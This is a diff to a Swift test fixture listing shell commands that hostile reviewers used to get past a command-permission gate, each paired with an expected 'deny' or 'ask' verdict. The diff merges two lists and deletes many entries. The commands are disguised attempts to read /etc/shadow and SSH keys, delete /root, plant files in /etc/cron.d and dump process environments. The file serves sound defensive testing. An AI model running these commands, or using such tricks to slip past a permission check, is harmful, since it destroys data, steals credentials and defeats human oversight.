@@ -1,7 +1,7 @@
-/// What was found in hostile reviews of the gate: each of these lines was passed once. `verdict => command`, in the mode `bypass`:
-/// denied by the floor, or at least asked about. `⏎` is a newline.
+/// What was found in hostile reviews of the gate, and what is near it: most of these lines were passed once. `verdict => command`,
+/// in the mode `bypass`: denied by the floor, or at least asked about. `⏎` is a newline.
 enum Findings {
-  /// Names, values, globs, wrappers, options that write.
+  /// Names, values, globs, wrappers.
   static let floor = """
     ask => cat /etc/sha$!dow
     ask => cat /etc/sha${!}dow
@@ -133,10 +133,6 @@ enum Findings {
     ask => bash -O extglob -c 'rm -rf /root'
     ask => bash -cO extglob 'rm -rf /root'
     ask => bash --rcfile x -ic 'rm -rf /root'
-    """.split(separator: "\n").map(String.init)
-
-  /// The second round, of the first round's mending.
-  static let more = """
     deny => bash +o errexit -c 'rm -rf /root'
     deny => dash -co errexit 'rm -rf /root'
     deny => zsh -c 'rm -rf /root'
@@ -186,87 +182,5 @@ enum Findings {
     deny => curl --output=/etc/cron.d/x http://h
     deny => curl --out /etc/cron.d/x http://h
     deny => curl -fsSLo.env http://h
-    deny => curl -D/etc/cron.d/x http://h
-    deny => curl -sc /etc/cron.d/x http://h
-    deny => curl --dump-head /etc/cron.d/x http://h
-    deny => cd /etc/cron.d; curl -sO http://h/x
-    deny => curl -sO http://h/.env
-    deny => curl -sO --output-dir /etc http://h/x
-    deny => wget -qP/etc http://h
-    deny => wget --output-doc=/etc/x http://h
-    deny => wget http://h/.env
-    deny => cd /etc; wget http://h/passwd
-    deny => wget -P /etc http://h/a
-    deny => wget -qa /etc/x http://h
-    deny => sort -uo/etc/x f
-    deny => sort -ro /etc/x f
-    deny => sort -k1 -o /etc/x f
-    deny => sort --out /etc/x f
-    deny => mv x --targ /etc
-    deny => install -Dt /etc x
-    deny => install -m644 -t /etc x
-    deny => cp -at /etc x
-    deny => cp -rt/etc x
-    deny => ln -st /etc x
-    deny => tar -xC/etc -f a
-    deny => tar xfC a.tar /etc
-    deny => tar --extr --dir /etc --file a
-    deny => tar -xvzf a.tgz --directory /etc
-    deny => tar x -C /etc
-    deny => tar xf a --one-top-level=/etc/x
-    deny => unzip -qd /etc a.zip
-    deny => unzip a.zip -d/etc
-    deny => find -P /root -delete
-    deny => find -O3 /root -delete
-    deny => find -H -L -- /root -delete
-    deny => find /roo? -delete
-    deny => find ~ -delete
-    deny => cd /root; find -delete
-    deny => cd /; find . -delete
-    deny => cd /root; find -L -delete
-    ask => cat /root/\u{301}/../.ssh/id_rsa
-    ask => cat ~/\u{301}/../.ssh/id_rsa
-    ask => env -u HOME bash -c 'cat /etc/sha${HOME}dow'
-    ask => declare +x HOME; bash -c 'cat /etc/sha${HOME}dow'
-    ask => export USER=x/../../etc; bash -c 'cat /home/$USER/shadow'
-    ask => env USER=/etc bash -c 'cat $USER/shadow'
-    ask => ln -s ../../etc/shadow /tmp/a/b/l; mv /tmp/a/b/l /tmp/lk; cat /tmp/l?
-    ask => mv /tmp/a/b/l /tmp/lk; cat /tmp/l[k]
-    ask => (sleep 1; cat /tmp/lk) & mv /tmp/a/b/l /tmp/lk
-    ask => for i in 1 2; do cat /tmp/lk; mv /tmp/a/b/l /tmp/lk; done
-    deny => cat /tmp/rv$((1))/shadow
-    ask => echo 'rm -rf /root' | parallel
-    ask => echo 'rm -rf /root' | at now
-    deny => cat ~/.s?h/config
-    deny => cat /root/.s*/id_ecdsa
-    deny => rm -rf /{roo?,x}
-    deny => rm -rf /hom*/
-    deny => chmod -R 777 /us?
-    deny => mv /et? /tmp/x
-    deny => cat /dev/sd?
-    deny => tee /e*/cron.d/x
-    deny => cp a /et?/cron.d/x
-    deny => cat /proc/self/env*
-    deny => cat /proc/[0-9]*/environ
-    deny => tee .gi?/config
-    deny => tee .en?
-    ask => cat "/etc/sha"$!"dow"
-    ask => x=$!; cat /etc/sha${x}dow
-    ask => mv ../x/l m; cat m/id_rsa
-    ask => cp -a ../x/l m; cat m
-    ask => tar xf a.tar; cat l/x
-    ask => ln -s .. up; cat up/../../etc/passwd
-    ask => link a b; cat b
-    ask => mv l lk; echo x > lk
-    ask => cat nothing/../../.ssh2/x
-    ask => declare +x USER; bash -c 'cat /etc/sha${USER}dow'
-    ask => sudo bash -c 'cat /etc/sha${USER}dow'
-    ask => exec -c bash -c 'cat /etc/sha${USER}dow'
-    deny => bash -c 'cd; cat ../$USER/.ssh/id_rsa'
-    deny => chroot / cat etc/shadow
-    ask => sudo -i cat .ssh/id_rsa
-    deny => systemd-run --pipe cat etc/shadow
-    ask => awk '{print > "/tmp/x;y"}' a
-    ask => awk '{print a, # }⏎ b > "/tmp/x"}' a
     """.split(separator: "\n").map(String.init)
 }
